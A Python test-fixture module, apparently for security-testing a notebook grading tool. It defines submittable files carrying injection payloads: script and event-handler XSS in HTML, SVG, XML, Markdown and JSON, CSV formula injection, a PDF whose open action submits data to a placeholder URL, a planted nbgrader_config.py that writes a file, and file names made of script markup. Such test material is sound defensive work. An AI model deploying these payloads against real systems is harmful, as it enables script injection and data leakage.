"""Files beside a notebook, of types that can be handed in: what is in them, and what they are called."""

from .case import File

SCRIPT = "<!doctype html><title>work</title><body><img src='@URL@' onerror=\"@ACT@\"><script>@ACT@</script>"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="@ACT@">'
    '<script>@ACT@</script><image href="@URL@" xlink:href="@URL@"/></svg>'
)
XML = (
    '<?xml version="1.0"?><?xml-stylesheet href="@URL@" type="text/xsl"?>'
    '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>@ACT@</x:script></x:html>'
)
REFRESH = (
    "<!doctype html><meta http-equiv=refresh content='0;url=@URL@'><form action='@HERE@'><button>Go</button></form>"
)
FRAMES = "<!doctype html><iframe src='@URL@'></iframe><object data='@URL@'></object><link rel=stylesheet href='@URL@'>"
MARKDOWN = (
    "# Work\n\n<img src='@URL@' onerror=\"@ACT@\">\n\n![a](@URL@) [b](javascript:@ACT@)\n\n<script>@ACT@</script>\n"
)
CSV = 'name,points\n<img src=\'@URL@\' onerror="@ACT@">,"=HYPERLINK(""@URL@"")"\n<script>@ACT@</script>,19\n'
PDF = """%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction
<</S/JavaScript/JS(this.submitForm\\('@URL@'\\);app.launchURL\\('@URL@'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(@URL@)>>>>>>endobj
trailer<</Root 1 0 R>>
"""

FILES = [
    File("file-html", "report.html", SCRIPT),
    File("file-svg", "drawing.svg", SVG),
    File("file-xml", "data.xml", XML),
    File("file-refresh", "moved.html", REFRESH),
    File("file-frames", "frames.html", FRAMES),
    File("file-markdown", "notes.md", MARKDOWN),
    File("file-csv", "table.csv", CSV),
    File("file-json", "values.json", '{"<script>@ACT@</script>": "<img src=\'@URL@\'>"}'),
    File("file-text", "notes.txt", SCRIPT),
    File("file-pdf", "letter.pdf", PDF),
    File("file-false-picture", "picture.png", SCRIPT),
    File("file-python", "nbgrader_config.py", "open('/course/@NAME@.txt', 'w').write('ran')\n"),
    File("name-markup", "\"'><img src=x onerror=document.title=`@NAME@`>.txt", "A name that is markup."),
    File("name-script", "<script>document.title=`@NAME@`<.txt", "A name that is a script."),
    File("name-link", "javascript:document.title=`@NAME@`.html", SCRIPT),
    File("name-folder", "<svg onload=document.title=`@NAME@`>/work.txt", "A folder whose name is markup."),
]
